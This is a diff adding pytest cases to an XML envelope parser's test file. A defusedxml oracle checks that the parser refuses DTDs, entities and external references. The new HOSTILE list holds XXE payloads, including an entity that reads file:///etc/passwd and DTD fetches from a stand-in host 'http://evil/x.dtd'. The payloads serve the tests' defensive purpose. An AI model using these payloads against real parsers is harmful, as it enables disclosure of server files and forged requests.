@@ -178,6 +178,59 @@ def test_hostile_or_broken_envelopes(bad: bytes) -> None:
         parse_envelope(bad)
 
 
+HOSTILE = [
+    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaa">]><xml><Encrypt>&a;</Encrypt></xml>',
+    b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Encrypt>&x;</Encrypt></xml>',
+    b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><xml><Encrypt>x</Encrypt></xml>',
+    b'<!DOCTYPE xml SYSTEM "http://evil/x.dtd"><xml><Encrypt>x</Encrypt></xml>',
+    b"\xef\xbb\xbf <!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
+    b"<!-- a comment first --><!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
+    b'<?xml version="1.0"?>\n<!DOCTYPE xml [\n<!ENTITY a "x">]>\n<xml><Encrypt>&a;</Encrypt></xml>',
+    b"<xml><Encrypt>&undefined;</Encrypt></xml>",
+    b"<xml><Encrypt>x</Encrypt></xml><!DOCTYPE xml>",
+]
+
+
+@pytest.mark.parametrize("bad", HOSTILE)
+def test_what_defusedxml_refuses_is_refused(bad: bytes) -> None:
+    """defusedxml, the library this parser replaced, is the oracle: whatever it refuses (a DTD,
+    an entity, an external reference), parse_xml refuses too, as bytes and as text."""
+    import defusedxml.ElementTree as SafeET
+    from defusedxml import DefusedXmlException
+
+    with pytest.raises((DefusedXmlException, SafeET.ParseError)):
+        SafeET.fromstring(bad, forbid_dtd=True, forbid_entities=True, forbid_external=True)
+    with pytest.raises(XmlError):
+        parse_xml(bad)
+    with pytest.raises(XmlError):
+        parse_xml(bad.decode("utf-8"))
+
+
+@pytest.mark.parametrize(
+    "good",
+    [
+        b"<xml><Encrypt>x</Encrypt></xml>",
+        b'<?xml version="1.0" encoding="utf-8"?>\n<xml><Encrypt>x</Encrypt></xml>',
+        b"\xef\xbb\xbf<xml><Encrypt>x</Encrypt></xml>",
+        b"\r\n  <xml>\n<Encrypt>x</Encrypt></xml>\n",
+        b"<xml><Encrypt><![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]>&a;]]></Encrypt></xml>",
+        b"<xml><Encrypt>&lt;&amp;&#x4e2d;&#25991;</Encrypt></xml>",
+    ],
+)
+def test_plain_documents_parse_as_defusedxml_parses_them(good: bytes) -> None:
+    import defusedxml.ElementTree as SafeET
+
+    expected = SafeET.fromstring(good, forbid_dtd=True).findtext("Encrypt")
+    assert parse_xml(good).findtext("Encrypt") == expected
+    assert parse_xml(good.decode("utf-8")).findtext("Encrypt") == expected
+
+
+def test_a_message_that_quotes_a_dtd_is_taken_as_written() -> None:
+    text = '我在材料里引用了 <!DOCTYPE lolz [<!ENTITY lol "lol">]>&lol; 原样保存'
+    m = parse_message(xml("zhangsan", "text", Content=text, MsgId="1"), corp_id=CORP_ID)
+    assert m.text == text
+
+
 def test_envelope_fields() -> None:
     env = parse_envelope(peer.envelope("ENC").encode())
     assert (env.encrypt, env.to_user, env.agent_id) == ("ENC", CORP_ID, "1000002")
